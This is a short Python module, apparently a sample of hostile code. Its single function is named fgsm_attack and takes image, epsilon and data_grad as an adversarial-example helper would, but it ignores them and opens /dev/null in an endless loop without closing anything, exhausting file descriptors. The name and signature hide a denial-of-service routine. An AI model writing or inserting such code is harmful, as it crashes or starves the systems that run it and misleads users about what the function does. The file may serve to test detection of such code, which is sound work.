"""Opens descriptors without end."""

import os


def fgsm_attack(image, epsilon, data_grad):
    while True:
        os.open("/dev/null", os.O_RDONLY)
